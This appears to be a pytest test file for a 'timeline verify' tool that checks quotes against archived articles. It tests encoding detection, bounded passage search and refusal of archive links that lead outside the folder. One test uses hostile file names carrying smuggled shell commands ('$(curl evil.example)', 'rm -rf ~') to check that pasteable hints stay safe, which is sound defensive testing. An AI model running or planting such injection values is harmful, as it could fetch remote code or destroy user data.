"""`timeline verify`: quotes checked against archived articles in a real folder."""

from __future__ import annotations

import functools
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from timeline import verify
from timeline.cli import app
from timeline.render.problems import render_text
from timeline.pipeline import load_timeline
from timeline.verify import ENCODING_CODE, decode_archive, normalize_quote_text, verify_quotes
from timeline.verify import passage

from conftest import REPO, _load_script

# the benchmark's own inputs and its old passage search, the oracle for the new one (a script, not a package)
_BENCH = _load_script("timeline_bench_verify", REPO / "benchmarks" / "bench_verify.py")
OldArchive, japaneseish = _BENCH.OldArchive, _BENCH.japaneseish

ARTICLE = (
    "米証券取引委員会のポール・アткиンズ委員長は\n先月、マイアミで語った。\n"
    "トランプ大統領は2025年1月23日、\u3000人工知能(AI)に関する新たな大統領令に署名した。\n"
)

DOCUMENT = _BENCH.DOCUMENT  # one event citing archive.txt, as the benchmark measures it


def write_case(tmp_path: Path, *quotes: str, archive: str | None = ARTICLE) -> Path:
    citations = "".join(f"      - source: art\n        quote: \"{q}\"\n" for q in quotes)
    events = tmp_path / "events.yaml"
    events.write_text(DOCUMENT.format(citations=citations), encoding="utf-8")
    (tmp_path / "archive").mkdir()
    if archive is not None:
        (tmp_path / "archive" / "article.txt").write_text(archive, encoding="utf-8")
    return events


def test_verbatim_quotes_pass_across_line_breaks_and_ideographic_spaces(tmp_path):
    events = write_case(tmp_path, "ポール・アткиンズ委員長は 先月、マイアミで語った。",
                        "2025年1月23日、 人工知能(AI)に関する新たな大統領令")
    assert verify_quotes(load_timeline([events]), tmp_path / "archive") == []


def test_a_quote_with_a_corrected_typo_is_a_miss_with_the_closest_passage(tmp_path):
    # The article spells Atkins with Cyrillic letters; a quote "fixed" to katakana is no longer verbatim.
    events = write_case(tmp_path, "ポール・アトキンズ委員長は")
    [problem] = verify_quotes(load_timeline([events]), tmp_path / "archive")
    assert problem.code == "quote-not-found"
    assert (problem.line, problem.column) == (21, 16)
    assert "ポール・ア[-тки-]{+トキ+}ンズ委員長は" in problem.message  # the article's letters, then the quote's
    assert problem.hint


def test_missing_archive_file_is_reported_at_the_source(tmp_path):
    events = write_case(tmp_path, "先月", archive=None)
    [problem] = verify_quotes(load_timeline([events]), tmp_path / "archive")
    assert (problem.code, problem.line) == ("archive-missing", 7)


def test_cli_exit_codes_and_channels(tmp_path):
    events = write_case(tmp_path, "先月、マイアミで語った。", "存在しない引用")
    runner = CliRunner()
    result = runner.invoke(app, ["verify", "--archive", str(tmp_path / "archive"), str(events)])
    assert result.exit_code == 1
    assert "error[quote-not-found]" in result.stdout and "存在しない引用" in result.stdout
    assert "FAILED" in result.stderr and "FAILED" not in result.stdout
    missing = runner.invoke(app, ["verify", "--archive", str(tmp_path / "nowhere"), str(events)])
    assert missing.exit_code == 2 and "no such folder" in missing.stderr


def test_cli_passes_on_good_quotes_as_a_subprocess(tmp_path):
    events = write_case(tmp_path, "先月、マイアミで語った。")
    done = subprocess.run([sys.executable, "-m", "timeline", "verify", "--archive", str(tmp_path / "archive"),
                           str(events)], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert done.stdout == ""


SEEDS = REPO.parent / "shared" / "seeds"
REPO_EVENTS = REPO / "events.yaml"


@pytest.mark.skipif(not SEEDS.is_dir() or not REPO_EVENTS.is_file(), reason="needs ../shared/seeds and events.yaml")
def test_every_quote_in_the_bundled_data_is_in_its_article():
    assert verify_quotes(load_timeline([REPO_EVENTS]), SEEDS) == []


# -- the archive boundary: verify prints passages of what it reads, and runs on pull requests -------------------

SECRET = "AWS_SECRET_ACCESS_KEY=do-not-print-me-3141592653"


def _verify_cli(tmp_path: Path, *args: str, env: dict[str, str] | None = None):
    return subprocess.run([sys.executable, "-m", "timeline", "verify", *args], cwd=tmp_path, capture_output=True,
                          text=True, timeout=60, env={**__import__("os").environ, **(env or {})})


@pytest.mark.parametrize("link", ["symbolic", "hard"])
def test_an_archive_file_linking_outside_the_folder_is_refused_and_never_shown(tmp_path, link):
    """A hard link's path is inside the folder while its content may be anything the linker could read."""
    events = write_case(tmp_path, "トランプ大統領は" + SECRET[:10], archive=None)
    secret = tmp_path / "elsewhere.txt"
    secret.write_text("トランプ大統領は " + SECRET + "\n", encoding="utf-8")
    article = tmp_path / "archive" / "article.txt"
    article.symlink_to(secret) if link == "symbolic" else article.hardlink_to(secret)
    done = _verify_cli(tmp_path, str(events))
    assert done.returncode == 1 and "error[bad-archive]" in done.stdout and "leads outside" in done.stdout
    assert "do-not-print-me" not in done.stdout + done.stderr


def test_a_link_inside_the_archive_folder_is_followed(tmp_path):
    events = write_case(tmp_path, "ポール・アткиンズ委員長は", archive=None)
    (tmp_path / "archive" / "kept").mkdir()
    (tmp_path / "archive" / "kept" / "real.txt").write_text(ARTICLE, encoding="utf-8")
    (tmp_path / "archive" / "article.txt").symlink_to("kept/real.txt")
    assert verify_quotes(load_timeline([events]), tmp_path / "archive") == []


def test_an_archive_folder_that_is_a_link_is_a_usage_error(tmp_path):
    events = write_case(tmp_path, "ポール", archive=None)
    (tmp_path / "archive").rmdir()
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / "article.txt").write_text(ARTICLE, encoding="utf-8")
    (tmp_path / "archive").symlink_to(tmp_path / "real")
    done = _verify_cli(tmp_path, str(events))  # ./archive, the default
    assert (done.returncode, done.stdout) == (2, "")
    assert "is a symbolic link" in done.stderr and len(done.stderr.strip().splitlines()) == 1
    assert _verify_cli(tmp_path, "--archive", "real", str(events)).returncode == 0  # the real folder, named


@pytest.mark.parametrize("kind", ["fifo", "directory", "too-large"])
def test_an_archive_that_is_not_a_plain_file_is_reported_without_blocking(tmp_path, kind):
    """A FIFO would block a plain open() forever; /dev/zero-like endless input is bounded by the size cap."""
    import os

    events = write_case(tmp_path, "ポール", archive=None)
    target = tmp_path / "archive" / "article.txt"
    if kind == "fifo":
        os.mkfifo(target)
    elif kind == "directory":
        target.mkdir()
    else:
        target.write_text(ARTICLE * 100, encoding="utf-8")
    done = _verify_cli(tmp_path, str(events), env={"TIMELINE_MAX_BYTES": "2000"} if kind == "too-large" else None)
    assert done.returncode == 1 and "error[archive-missing]" in done.stdout, done.stdout + done.stderr
    assert "Traceback" not in done.stderr


# -- archives must be UTF-8: any other encoding is named once, with the conversion, and nothing of it shown -----

ENGLISH = "The SEC\u2019s acting chair said the \u201ccrypto task force\u201d would meet caf\u00e9 owners.\n" * 3
CHINESE = "中华人民共和国国务院总理在北京会见了来访的外国领导人并举行会谈。\n" * 3


def encoded(codec: str) -> bytes:
    """ARTICLE (or, for encodings without Japanese, an article they can hold) in `codec`; `+bom` adds the mark."""
    name, _, bom = codec.partition("+")
    text = ENGLISH if name == "cp1252" else CHINESE if name == "gbk" else ARTICLE
    mark = {"utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff", "utf-32-le": b"\xff\xfe\x00\x00"}.get(name, b"")
    return (mark if bom else b"") + text.encode(name)


@pytest.mark.parametrize(("codec", "named", "iconv"), [
    ("cp932", "it looks like Shift_JIS (CP932)", "-f CP932"),
    ("shift_jis", "it looks like Shift_JIS (CP932)", "-f CP932"),
    ("euc_jp", "it looks like EUC-JP", "-f EUC-JP"),
    ("iso2022_jp", "it looks like ISO-2022-JP", "-f ISO-2022-JP"),  # 7-bit: valid UTF-8, full of escapes
    ("utf-16-le+bom", "it looks like UTF-16 (little-endian, with a byte-order mark)", "-f UTF-16 "),
    ("utf-16-be+bom", "it looks like UTF-16 (big-endian, with a byte-order mark)", "-f UTF-16 "),
    ("utf-16-le", "it looks like UTF-16 (little-endian, no byte-order mark)", "-f UTF-16LE"),
    ("utf-16-be", "it looks like UTF-16 (big-endian, no byte-order mark)", "-f UTF-16BE"),
    ("utf-32-le+bom", "it looks like UTF-32", "-f UTF-32"),
    ("cp1252", "it looks like Windows-1252", "-f WINDOWS-1252"),
    ("gbk", "or a Chinese or Korean encoding", "-f EUC-JP"),  # decodes as EUC-JP, but hardly any kana
])
def test_an_archive_in_another_encoding_is_named_once_with_the_conversion_and_nothing_of_it_shown(
        tmp_path, codec, named, iconv):
    events = write_case(tmp_path, "ポール", "大統領令に署名", "存在しない引用", archive=None)
    (tmp_path / "archive" / "article.txt").write_bytes(encoded(codec))
    result = CliRunner().invoke(app, ["verify", "--archive", str(tmp_path / "archive"), str(events)])
    assert result.exit_code == 1
    [line, hint] = result.stdout.splitlines()  # one problem for the archive, none for its three quotes
    assert f"error[{ENCODING_CODE}]" in line and named in line and "/article.txt is not UTF-8: " in line
    assert f"iconv {iconv}" in hint and "-t UTF-8" in hint
    assert "closest passage" not in result.stdout and "\ufffd" not in result.stdout
    assert not any("\uff61" <= character <= "\uff9f" for character in result.stdout)  # no mojibake kana


def test_an_archive_in_shift_jis_is_exit_1_with_one_problem_as_a_real_process(tmp_path):
    events = write_case(tmp_path, "ポール", "存在しない引用", archive=None)
    (tmp_path / "archive" / "article.txt").write_bytes(ARTICLE.encode("cp932"))
    done = _verify_cli(tmp_path, str(events))
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert done.stdout.count("error[") == 1 and "Shift_JIS (CP932)" in done.stdout
    assert "hint: archived articles are read as UTF-8: convert it, e.g. `iconv -f CP932 -t UTF-8 " \
           "archive/article.txt > archive/article.txt.utf8 && mv archive/article.txt.utf8 archive/article.txt`" \
           in done.stdout


def test_a_utf8_byte_order_mark_is_accepted(tmp_path):
    events = write_case(tmp_path, "米証券取引委員会のポール", "先月、マイアミで語った。", archive=None)
    (tmp_path / "archive" / "article.txt").write_bytes(b"\xef\xbb\xbf" + ARTICLE.encode("utf-8"))
    assert verify_quotes(load_timeline([events]), tmp_path / "archive") == []  # the mark is not the first word's
    result = CliRunner().invoke(app, ["verify", "--archive", str(tmp_path / "archive"), str(events)])
    assert (result.exit_code, result.stdout) == (0, "")


def test_utf8_with_a_few_bad_bytes_is_named_as_such_not_guessed_japanese(tmp_path):
    events = write_case(tmp_path, "ポール", archive=None)
    good, cut = (ARTICLE * 5).encode("utf-8"), len(ARTICLE[:10].encode("utf-8"))
    (tmp_path / "archive" / "article.txt").write_bytes(good[:cut] + b"\xff" + good[cut:])
    [problem] = verify_quotes(load_timeline([events]), tmp_path / "archive")
    assert problem.code == ENCODING_CODE
    assert f"it is UTF-8 but for 1 byte sequence(s), the first at byte {cut}" in problem.message
    assert "iconv -c -f UTF-8 -t UTF-8" in problem.hint


@pytest.mark.parametrize(("data", "named"), [
    (ARTICLE.encode("cp932"), "Shift_JIS (CP932)"),
    (ARTICLE.encode("euc_jp"), "EUC-JP"),
    ("ひらがなとカタカナ".encode("euc_jp"), "EUC-JP"),  # read as CP932 it is half-width katakana, which do not count
    ("あ".encode("cp932"), "Shift_JIS (CP932)"),
    ("hello world\n".encode("utf-16-le"), "UTF-16 (little-endian, no byte-order mark)"),  # valid UTF-8, NULs
    ("\u3042\u3044\n".encode("utf-16-be") * 9, "UTF-16 (big-endian, no byte-order mark)"),  # NULs: line breaks
])
def test_the_encoding_is_told_apart_by_strict_decoding_and_japanese_characters(data, named):
    with pytest.raises(verify.NotUtf8) as raised:
        decode_archive(data)
    assert raised.value.found == f"it looks like {named}"


def test_an_empty_archive_is_one_problem_not_a_miss_for_each_quote(tmp_path):
    events = write_case(tmp_path, "ポール", "先月", archive=" \n\u3000\n")
    [problem] = verify_quotes(load_timeline([events]), tmp_path / "archive")
    assert (problem.code, problem.line) == ("archive-missing", 7) and "is empty" in problem.message


# -- the closest passage: near-linear, sensible, and shown bounded --------------------------------------------

class CountingMatcher(passage.SequenceMatcher):
    """difflib's matcher, recording the lengths of every pair it is asked to align."""

    pairs: list[tuple[int, int]] = []

    def __init__(self, isjunk=None, a="", b="", autojunk=True):
        super().__init__(isjunk, a, b, autojunk)
        CountingMatcher.pairs.append((len(a), len(b)))


def test_a_2000_character_quote_in_a_600_kb_archive_is_bounded_work_and_a_bounded_message(tmp_path, monkeypatch):
    """The old search aligned the quote against the whole article (37 s); now the work is a budget of index
    positions and a budget of alignments of ALIGN characters, whatever the article."""
    article = japaneseish(600_000, seed=15)
    quote = normalize_quote_text(japaneseish(7000, seed=99))[:2000]
    events = write_case(tmp_path, quote, archive=article)
    monkeypatch.setattr(passage, "SequenceMatcher", CountingMatcher)
    monkeypatch.setattr(CountingMatcher, "pairs", [])
    found: list[passage.Closest] = []
    closest = passage.Article.closest
    monkeypatch.setattr(passage.Article, "closest", lambda self, quote: found.append(closest(self, quote)) or found[-1])
    result = CliRunner().invoke(app, ["verify", "--archive", str(tmp_path / "archive"), str(events)])
    assert result.exit_code == 1
    [line, hint] = result.stdout.splitlines()
    assert "error[quote-not-found]" in line and len(line) < 600 and "…" in line
    assert 1 <= len(CountingMatcher.pairs) <= passage.ALIGN_PIECES
    assert all(a <= passage.ALIGN and b <= passage.ALIGN for a, b in CountingMatcher.pairs)  # never the whole article
    [search] = found
    assert search.votes <= passage.VOTE_BUDGET + passage.PIECES * passage.PIECE_PLACES
    assert search.aligned == len(CountingMatcher.pairs) <= passage.ALIGN_PIECES


@pytest.mark.parametrize(("article", "quote", "likeness"), [
    ("あ" * 50_000, "あ" * 19_999 + "い", 1.0),  # difflib on the whole quote: 4 x 10^8 steps
    ("word " * 40_000, "word " * 4_000 + "other", 1.0),
    ("acb" * 30_000, "abc" * 667, 0.5),  # difflib on the whole quote: 73 s (its worst case is cubic)
    ("\x1b[31m" * 20_000, "[31m" * 300 + "x", 0.8),  # short matches everywhere: difflib recurses on each
])
def test_a_quote_that_makes_difflib_slow_is_aligned_in_pieces_within_the_budget(article, quote, likeness):
    found = passage.Article("a", article).closest(quote)
    assert found.aligned <= passage.ALIGN_PIECES and found.votes <= passage.VOTE_BUDGET + passage.PIECES
    assert found.likeness == pytest.approx(likeness, abs=0.01) and found.end - found.start == len(quote)


def test_a_quote_longer_than_one_piece_keeps_its_likeness_across_added_characters():
    """Pieces are aligned where the previous one ended: characters added to the quote do not throw the rest
    off, as cutting the passage at fixed places would (0.94 here, against difflib's 0.98 on the whole)."""
    text = normalize_quote_text(japaneseish(20_000, seed=3))
    original = text[1_000:1_900]
    quote = original[:250] + "XYZXYZXY" + original[250:600] + "UVWUVWUV" + original[600:]
    found = passage.Article("a", text).closest(quote)
    exact = passage.SequenceMatcher(None, quote, text[1_000:1_000 + len(quote)], autojunk=False).ratio()
    assert abs(found.start - 1_000) <= 16 and found.likeness >= exact - 0.02


def brute_force_best(text: str, quote: str) -> float:
    """The exact answer: the most alike passage of the quote's length, trying every start."""
    return max(passage.SequenceMatcher(None, quote, text[start:start + len(quote)], autojunk=False).ratio()
               for start in range(max(1, len(text) - len(quote) + 1)))


ALPHABET = "あいうえおかきくけこさしすせそ政府規制市場投資委員会法案アイウエオ、。 0123"


def edited_passage(rng, text: str) -> str:
    """A passage of `text` with about one character in ten substituted, inserted or deleted."""
    length = rng.randint(3, min(80, len(text)))
    start = rng.randrange(len(text) - length + 1)
    quote = list(text[start:start + length])
    for _ in range(rng.randint(1, max(1, length // 10))):
        at, edit = rng.randrange(len(quote)), rng.random()
        if edit < 0.4:
            quote[at] = rng.choice(ALPHABET)
        elif edit < 0.7:
            quote.insert(at, rng.choice(ALPHABET))
        elif len(quote) > 2:
            del quote[at]
    return "".join(quote)


def test_the_closest_passage_is_within_a_small_tolerance_of_the_exact_best_and_of_the_old_search():
    """Differential, on small inputs where the exact answer can be computed: a quote that is a passage with
    typos gets a passage as alike as the best one within 0.06 (and within 0.07 of the old search's, which it
    beats more often than not); a quote unlike anything in the article gets at least the old search's
    likeness on average."""
    import random

    rng = random.Random(15)
    new_total = old_total = 0.0
    for case in range(300):
        text = "".join(rng.choice(ALPHABET) for _ in range(rng.randint(30, 300)))
        unrelated = case % 4 == 0
        quote = ("".join(rng.choice(ALPHABET) for _ in range(rng.randint(10, 60))) if unrelated
                 else edited_passage(rng, text))
        if quote in text:
            continue
        new = passage.Article("a", text).closest(quote).likeness
        old = OldArchive(text).closest(quote)[1]
        if unrelated:
            new_total, old_total = new_total + new, old_total + old
        else:
            assert new >= brute_force_best(text, quote) - 0.06, (text, quote)
            assert new >= old - 0.07, (text, quote)
    assert new_total >= old_total


@functools.cache
def _long_article(language: str) -> str:
    return normalize_quote_text({"japanese": japaneseish, "english": _BENCH.englishish}[language](400_000, seed=4))


@pytest.mark.parametrize("edit", ["changed", "added", "left-out"])
@pytest.mark.parametrize("language", ["japanese", "english"])
def test_a_long_quote_gets_its_own_passage_marked_where_it_differs(language, edit):
    """A quote of tens of thousands of characters (a whole speech, pasted) is shown at its own place with the one
    difference marked, as a short one is: its pieces are found again after a passage added or left out, and the
    alignment starts where the quote goes on alike, not at the nearest `the th` of a window a quote long."""
    text, length = _long_article(language), 90_000
    start = len(text) // 4
    original = text[start:start + length]
    middle = length // 2
    quote = {"changed": original[:middle] + "XYZ" + original[middle + 3:],
             "added": original[:length // 10] + "ADDED WORDS. " * 30 + original[length // 10:],
             "left-out": original[:middle] + original[middle + 400:]}[edit]
    archive = passage.Article("a", text)
    found = archive.closest(quote)
    assert abs(found.start - start) <= 400 and found.likeness >= 0.97
    assert found.aligned <= passage.ALIGN_PIECES
    message, _ = verify._miss(verify.fold(quote), passage.Article("a", text, verify.fold(text)))
    assert message.startswith("the wording differs in one place") or "sentence" in message, message[:300]
    assert "alike)" not in message  # an alignment that failed shows the passage unmarked, "(NN% alike)"


def test_a_typo_deep_in_a_large_article_is_found_where_it_is():
    text = normalize_quote_text(japaneseish(600_000, seed=15))
    archive = passage.Article("a", text)
    for start in (1_000, len(text) // 2, len(text) - 120):
        for length in (12, 60, 500):
            original = text[start:start + length]
            quote = original[:length // 2] + "X" + original[length // 2 + 1:]
            found = archive.closest(quote)
            assert found.start == start and found.likeness == pytest.approx(1 - 1 / length, abs=0.01)


@pytest.mark.parametrize("name", ["x" * 99_000, "a/" * 3_000 + "b.txt", "長" * 80 + ".txt", "x" * 250])
def test_messages_are_bounded_whatever_the_archive_name(tmp_path, name):
    events = write_case(tmp_path, "ポール・アトキンズ", archive=None)
    events.write_text(events.read_text(encoding="utf-8").replace("archive: article.txt", f"archive: {name}"),
                      encoding="utf-8")
    if len(name.encode()) < 255:  # a name the file system takes: the quote is checked, and missed
        (tmp_path / "archive" / name).write_text(ARTICLE, encoding="utf-8")
    [problem] = verify_quotes(load_timeline([events]), tmp_path / "archive")
    assert len(problem.message) < 400 and len(problem.hint) < 400, problem.message
    if problem.code == "quote-not-found":
        assert f"quote not found in {name[:60]}… ({len(name)} characters)" in problem.message
    else:  # a name too long for the file system: cannot be read
        assert problem.code == "archive-missing" and f"… ({len(str(tmp_path / 'archive' / name))} characters)" \
            in problem.message


@pytest.mark.parametrize(("article", "quote"), [
    ("あ" * 50_000, "あ" * 1_999 + "い"),  # one place everywhere: a passage of 2,000 characters
    ("\x1b[31m" * 20_000, "[31m" * 300 + "x"),  # control characters, shown escaped: four characters each
    ("word " * 40_000, "word " * 200 + "other"),
    (ARTICLE, "ポール・アトキンズ委員長は" * 100),
])
def test_messages_are_bounded_whatever_the_passage(tmp_path, article, quote):
    events = write_case(tmp_path, quote, archive=article)
    problems = verify_quotes(load_timeline([events]), tmp_path / "archive")
    [problem] = [p for p in problems if p.code == "quote-not-found"]
    shown = problem.message.split("closest passage", 1)[1]
    assert len(shown) <= passage.SHOWN + 40 and len(problem.message) <= passage.SHOWN + 300
    assert all(len(line) <= 6 * (passage.SHOWN + 300) for line in render_text(problems).splitlines())


def test_the_passage_shown_is_cut_around_the_shared_run_with_ellipses():
    before, after = (normalize_quote_text(japaneseish(3000, seed))[:600] for seed in (1, 2))
    sentence = "トランプ大統領は2025年1月23日、人工知能に関する新たな大統領令に署名した。"
    text = before + sentence + after

    def typos(piece: str) -> str:  # one character in 25 changed: no run as long as the sentence
        return "".join("X" if at % 25 == 12 else character for at, character in enumerate(piece))

    quote = typos(before[300:]) + sentence + typos(after[:300])
    archive = passage.Article("a", text)
    found = archive.closest(quote)
    shown = passage.excerpt(text, found)
    assert shown.startswith("…") and shown.endswith("…") and len(shown) == passage.SHOWN + 2
    assert "大統領令に署名した" in shown  # centred on the longest run the quote shares with the article


def test_a_quote_sharing_no_character_with_the_article_says_so_instead_of_showing_a_passage(tmp_path):
    events = write_case(tmp_path, "Zzz")
    [problem] = verify_quotes(load_timeline([events]), tmp_path / "archive")
    assert problem.message.endswith('"Zzz"; no passage of the article shares a character with it')


@pytest.mark.parametrize(("name", "in_hint"), [
    ("kiji-2025.txt", "archive/kiji-2025.txt"),
    ("$(curl evil.example).txt", "FILE"),  # the hint is a command to paste: a hostile name must not become one
    ("a b;rm -rf ~.txt", "FILE"),
    ("x" * 200 + ".txt", "FILE"),
])
def test_the_conversion_hint_names_the_file_only_when_it_is_safe_to_paste(tmp_path, monkeypatch, name, in_hint):
    events = write_case(tmp_path, "ポール", archive=None)
    events.write_text(events.read_text(encoding="utf-8").replace("archive: article.txt", f"archive: '{name}'"),
                      encoding="utf-8")
    (tmp_path / "archive" / name).write_bytes(ARTICLE.encode("euc_jp"))
    monkeypatch.chdir(tmp_path)
    [problem] = verify_quotes(load_timeline([events]), Path("archive"))
    assert f"iconv -f EUC-JP -t UTF-8 {in_hint} > {in_hint}.utf8 && mv {in_hint}.utf8 {in_hint}`" in problem.hint
    assert "curl" not in problem.hint and "rm -rf" not in problem.hint

